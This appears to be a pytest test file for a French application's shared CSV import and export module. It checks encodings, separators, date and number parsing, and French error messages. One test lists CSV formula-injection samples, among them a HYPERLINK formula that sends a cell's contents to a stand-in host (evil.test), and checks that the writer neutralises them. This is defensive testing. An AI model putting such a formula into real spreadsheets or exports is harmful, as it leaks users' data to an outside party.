"""The shared CSV reader and writer (every import and export goes through them)."""

import csv
import io
from datetime import date

import pytest

from engagements.csvio import CsvImportError, neutralise, read_csv, to_csv_text

COLUMNS = ["site", "received_on", "count"]


def _read(data, **kwargs):
    return read_csv(data, required=COLUMNS, **kwargs)


def _errors(data, **kwargs) -> list[str]:
    with pytest.raises(CsvImportError) as exc:
        table = _read(data, **kwargs)
        for row in table:
            row.date("received_on", required=True)
            row.int("count", min=0)
        table.raise_errors()
    return exc.value.lines


@pytest.mark.parametrize(
    "data",
    [
        b"site,received_on,count\nnord,2026-03-01,4\n",
        "\ufeffsite,received_on,count\r\nnord,01/03/2026,4\r\n".encode(),
        "site;received_on;count\nnord;1/3/2026;4\n".encode("cp1252"),
        "SITE ; Received_On ; count\nnord;2026-03-01;4\n".encode("utf-8-sig"),
    ],
    ids=["utf8-comma", "bom-crlf-dmy", "cp1252-semicolon", "header-case"],
)
def test_reads_what_french_spreadsheets_save(data):
    table = _read(data)
    [row] = table.rows
    assert row["site"] == "nord"
    assert row.date("received_on") == date(2026, 3, 1)
    assert row.int("count") == 4
    assert row.line == 2


def test_windows_1252_accents():
    table = _read("site;received_on;count\nSainte-Aurée;2026-03-01;4\n".encode("cp1252"))
    assert table.rows[0]["site"] == "Sainte-Aurée"


@pytest.mark.parametrize(
    "data, expected",
    [
        (b"", "ligne 1 : fichier vide"),
        (b"site,received_on,count\n", "ligne 2 : aucune ligne de données"),
        (b"site,count\nx,1\n", "ligne 1 : colonnes manquantes : received_on"),
        (b"site,received_on,count,bonus\nx,2026-01-01,1,2\n", "colonnes inconnues : bonus"),
        (b"site,received_on,count\nx,2026-01-01,1,extra\n", "ligne 2 : 4 cellules pour 3"),
        (b"site,received_on,count\nx\x00y,2026-01-01,1\n", "colonne « site » : caractère nul"),
        ("site,received_on,count\nx,2026-01-01,²\n".encode(), "« count » : « ² » n'est pas"),
        ("site,received_on,count\nx,2026-01-01,٤\n".encode(), "« count » : « ٤ » n'est pas"),
        (b"site,received_on,count\nx,31/02/2026,1\n", "« received_on » : « 31/02/2026 »"),
        (b"site,received_on,count\nx,,1\n", "« received_on » : date obligatoire"),
        (b"site,received_on,count\nx,2026-01-01,-3\n", "« count » : -3 est inf"),
        (b"\x81\x8d\x8f\x90\x9d", "encodage non reconnu"),
    ],
)
def test_broken_files_name_the_line_and_column(data, expected):
    assert any(expected in line for line in _errors(data)), _errors(data)


def test_oversized_cells_are_line_errors():
    data = ("site,received_on,count\n" + "x" * 20_000 + ",2026-01-01,1\n").encode()
    assert any("ligne 2, colonne « site » : 20000 caractères" in e for e in _errors(data))


def test_line_numbers_count_physical_lines_with_multiline_cells():
    data = b'site,received_on,count\n"a\nb",2026-01-01,1\n\nc,bad,1\n'
    assert _errors(data) == [
        "ligne 5, colonne « received_on » : « bad » n'est pas une date (AAAA-MM-JJ ou JJ/MM/AAAA)"
    ]


def test_an_unknown_value_agrees_with_its_label():
    table = read_csv(b"civility,status\nmlle,x\n", required=["civility", "status"])
    for row in table:
        row.choice("civility", {"madame": 1}, label="civilité", feminine=True)
        row.choice("status", {"planned": 1}, label="statut")
    with pytest.raises(CsvImportError) as exc:
        table.raise_errors()
    assert exc.value.lines == [
        "ligne 2, colonne « civility » : civilité « mlle » inconnue ; valeurs possibles : madame",
        "ligne 2, colonne « status » : statut « x » inconnu ; valeurs possibles : planned",
    ]


def test_every_bad_line_is_reported_at_once():
    data = b"site,received_on,count\na,x,1\nb,2026-01-01,y\nc,2026-01-01,2\n"
    assert [e.split(",")[0] for e in _errors(data)] == ["ligne 2", "ligne 3"]


@pytest.mark.parametrize(
    "value, expected",
    [
        ('=HYPERLINK("http://evil.test/?"&A1)', '\'=HYPERLINK("http://evil.test/?"&A1)'),
        ("+33 6 12", "'+33 6 12"),
        ("-1+2", "'-1+2"),
        ("-20,0", "-20,0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Camille", "Camille"),
        (-3, -3),
        (None, ""),
    ],
)
def test_writer_neutralises_formulas(value, expected):
    assert neutralise(value) == expected


def test_written_csv_round_trips_with_bom_and_semicolons():
    text = to_csv_text(["nom", "n"], [["=1+1", 3], ["Anaïs", 4]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert rows == [["nom", "n"], ["'=1+1", "3"], ["Anaïs", "4"]]


def test_written_decimals_have_a_comma_for_french_excel():
    """French Excel read "5.5" (an average delay) as the 5th of May, "77.2" as text."""
    from decimal import Decimal

    text = to_csv_text(
        ["taux", "délai", "cible", "écart", "n"],
        [[77.2, 5.5, Decimal("75.00"), -1.5, 12], [1e-05, Decimal("1E+1"), 0.0, None, 0]],
    )
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert rows[1:] == [["77,2", "5,5", "75,00", "-1,5", "12"], ["0,000010", "10", "0,0", "", "0"]]


# Issue 20 (rows 6 and 7): bounded dates, UTF-16, line and JSON files through the reader.


@pytest.mark.parametrize("day", ["0001-01-01", "31/12/9999", "1999-12-31", "2101-01-01"])
def test_a_date_outside_2000_2100_is_a_line_error(day):
    lines = _errors(f"site,received_on,count\nchef-lieu,2026-03-02,1\nchef-lieu,{day},1\n")
    bounds = "date hors des années admises (2000 à 2100)"
    assert lines == [f"ligne 3, colonne « received_on » : « {day} » : {bounds}"]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf16_is_refused_with_a_french_hint(encoding):
    data = "site,received_on,count\nchef-lieu,2026-03-02,1\n".encode(encoding)
    assert _errors(data) == [
        "ligne 1 : encodage UTF-16 non pris en charge : enregistrez en CSV UTF-8"
    ]


def test_line_files_name_nul_lines_and_refuse_empty_files():
    from engagements.csvio import read_lines

    assert read_lines(b"a|b\n\n c|d \n") == [(1, "a|b"), (3, "c|d")]
    with pytest.raises(CsvImportError) as error:
        read_lines(b"a|b\nc\x00|d\n")
    assert error.value.lines == ["ligne 2 : caractère nul interdit"]
    for empty in (b"", b" \r\n"):
        with pytest.raises(CsvImportError):
            read_lines(empty)


def test_json_nested_too_deep_is_unreadable_not_a_recursion_error():
    from engagements.csvio import read_json

    assert read_json(b'[{"a": "[[[[[[[[[[[[[[[[[[[[[[["}]') == [{"a": "[" * 23}]
    for data in (b"[" * 100_000 + b"]" * 100_000, b"{", b""):
        with pytest.raises(CsvImportError) as error:
            read_json(data)
        assert error.value.lines[0].startswith("ligne 1 : fichier")


# What agents' spreadsheets save beside the data.


def test_empty_columns_right_of_the_data_are_ignored():
    """Excel saves the formatted but empty columns right of the table: `;;` ending the
    header and every line (and lines of semicolons only below it)."""
    data = "site;received_on;count;;\r\nnord;01/03/2026;4;;\r\n;;;;\r\n".encode("cp1252")
    [row] = _read(data).rows
    assert (row["site"], row.int("count")) == ("nord", 4)


def test_a_value_under_a_column_without_a_name_is_refused_naming_the_column():
    data = b"site;received_on;count;;\nnord;2026-03-01;4;;\nsud;2026-03-01;5;;oups\n"
    assert _errors(data) == [
        "ligne 1 : la colonne E de l'en-tête n'a pas de nom, mais elle a une valeur ligne 3"
    ]


def test_a_header_typed_without_its_accents_names_the_column():
    table = read_csv(
        "Date_de_Premiere_Reponse;titre\n2026-03-01;x\n".encode("cp1252"),
        required=["titre"],
        optional=["date_de_première_réponse"],
    )
    assert table.rows[0]["date_de_première_réponse"] == "2026-03-01"
    table = read_csv("Prénom;titre\nAnaïs;x\n".encode(), required=["prenom", "titre"])
    assert table.rows[0]["prenom"] == "Anaïs"
    table = read_csv(b"Received On;Site;count\n2026-03-01;x;1\n", required=COLUMNS)
    assert table.rows[0]["received_on"] == "2026-03-01"


@pytest.mark.parametrize(
    "cell, expected",
    [
        ("05/12/2026", date(2026, 12, 5)),
        ("5/12/26", date(2026, 12, 5)),
        ("05/12/2026 14:30", date(2026, 12, 5)),
        ("2026-12-05 00:00:00", date(2026, 12, 5)),
        ("2026-12-05T09:15:00", date(2026, 12, 5)),
    ],
)
def test_dates_as_spreadsheets_write_them(cell, expected):
    """A date cell formatted as date and time, or with a two-digit year (Excel's short
    date), is the day it shows."""
    [row] = _read(f"site;received_on;count\nnord;{cell};1\n".encode()).rows
    assert row.date("received_on") == expected


@pytest.mark.parametrize("cell", ["5/12/026", "2026-12-05 25", "31/02/26", "05/12/2026 midi"])
def test_what_is_still_not_a_date(cell):
    lines = _errors(f"site;received_on;count\nnord;{cell};1\n".encode())
    assert lines == [
        f"ligne 2, colonne « received_on » : « {cell} » n'est pas une date "
        "(AAAA-MM-JJ ou JJ/MM/AAAA)"
    ]


@pytest.mark.parametrize(
    "cell, expected",
    [("1 234", 1234), ("1\u00a0234", 1234), ("1\u202f234", 1234), ("12,00", 12), ("12.0", 12)],
)
def test_whole_numbers_as_french_spreadsheets_format_them(cell, expected):
    [row] = _read(f"site;received_on;count\nnord;2026-03-01;{cell}\n".encode()).rows
    assert row.int("count") == expected


@pytest.mark.parametrize("cell", ["12,5", "1 23", "1234 567", "1,"])
def test_what_is_still_not_a_whole_number(cell):
    lines = _errors(f"site;received_on;count\nnord;2026-03-01;{cell}\n".encode())
    assert lines == [
        f"ligne 2, colonne « count » : « {cell} » n'est pas un nombre entier (chiffres 0 à 9)"
    ]


def test_decimals_with_narrow_no_break_thousands():
    table = read_csv("value;site\n1\u202f234,5;nord\n".encode(), required=["value", "site"])
    assert str(table.rows[0].decimal("value")) == "1234.5"


def test_tab_separated_text_is_read():
    """Excel's "Texte (séparateur : tabulation)"."""
    [row] = _read(b"site\treceived_on\tcount\r\nnord\t2026-03-01\t4\r\n").rows
    assert (row["site"], row.int("count")) == ("nord", 4)


def test_a_quote_never_closed_is_named_not_a_missing_date():
    """The quote swallows the rest of the file into one cell: the line came out short and
    was reported "date obligatoire", the lines after it gone."""
    data = b'site;received_on;count\n"Nord;2026-03-01;4\nsud;2026-03-02;5\n'
    assert _errors(data)[0] == (
        "ligne 2, colonne « site » : guillemet ouvert et jamais refermé : la cellule court "
        "jusqu'à la ligne 3 (fermez le guillemet ou retirez-le)"
    )


def test_codes_are_read_in_any_case_and_with_their_accents():
    table = read_csv(
        "kind;seat\nRéclamation;SUPPLÉANT\n".encode("cp1252"), required=["kind", "seat"]
    )
    [row] = table.rows
    assert row.choice("kind", {"reclamation": "complaint"}) == "complaint"
    assert row.choice("seat", {"suppleant": "substitute"}) == "substitute"
    # Accents go, look-alike characters stay what they are ("1.²" is no commitment "1.2").
    [row] = read_csv("ref;x\n1.²;y\n".encode(), required=["ref", "x"]).rows
    assert row.choice("ref", {"1.2": 1}) is None


def test_the_preview_leaves_out_the_empty_columns_right_of_the_table():
    from engagements.csvio import preview_rows

    shown = preview_rows("site;count;;\r\nnord;4;;\r\n".encode("cp1252"), "csv")
    assert (shown.header, shown.rows, shown.total) == (["site", "count"], [["nord", "4"]], 1)


@pytest.mark.parametrize("cell", ["9", "09", "9h", "09h00", "09:00", "09:00:00"])
def test_an_hour_as_counters_and_platforms_write_it(cell):
    [row] = read_csv(f"hour;x\n{cell};y\n".encode(), required=["hour", "x"]).rows
    assert row.hour("hour") == 9 and row.ok


@pytest.mark.parametrize(
    "cell, message",
    [
        ("09:30", "« 09:30 » : une heure pleine est attendue (09:00)"),
        ("24", "24 est supérieur au maximum 23"),
        ("-1", "« -1 » n'est pas une heure (0 à 23, ou 09:00)"),
        ("neuf", "« neuf » n'est pas une heure (0 à 23, ou 09:00)"),
    ],
)
def test_what_is_not_the_start_of_an_hour(cell, message):
    table = read_csv(f"hour;x\n{cell};y\n".encode(), required=["hour", "x"])
    assert table.rows[0].hour("hour") is None
    assert [str(e) for e in table.errors] == [f"ligne 2, colonne « hour » : {message}"]


@pytest.mark.parametrize(
    "data",
    [
        b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 200,
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
    ],
    ids=["xlsx-or-ods", "xls"],
)
def test_a_workbook_dropped_as_it_is_is_named_as_such(data):
    """An .xlsx was refused as missing every column, an .xls as UTF-16."""
    assert _errors(data) == [
        "ligne 1 : ce fichier est un classeur (Excel ou LibreOffice), pas un fichier CSV : "
        "ouvrez-le et enregistrez-le au format « CSV UTF-8 » (Fichier > Enregistrer sous)"
    ]


def test_a_sep_line_written_for_excel_declares_the_separator():
    """Exports made for Excel (telephony platforms among them) start with "sep=;": it was
    read as the header ('colonnes manquantes'). Line numbers stay those of the file."""
    data = b"sep=;\r\nsite;received_on;count\r\nnord;2026-03-01;4\r\nsud;bad;5\r\n"
    assert _errors(data) == [
        "ligne 4, colonne « received_on » : « bad » n'est pas une date (AAAA-MM-JJ ou JJ/MM/AAAA)"
    ]
    [row] = _read(b'"sep=,"\nsite,received_on,count\nnord,2026-03-01,4\n').rows
    assert (row.line, row.int("count")) == (3, 4)
    assert _errors(b"sep=;\nsite;count\nx;1\n") == ["ligne 2 : colonnes manquantes : received_on"]
    assert _errors(b"sep=;\nsite;received_on;count\n") == [
        "ligne 3 : aucune ligne de données après l'en-tête"
    ]
    from engagements.csvio import preview_rows

    assert preview_rows(b"sep=;\nsite;count\nnord;4\n", "csv").header == ["site", "count"]
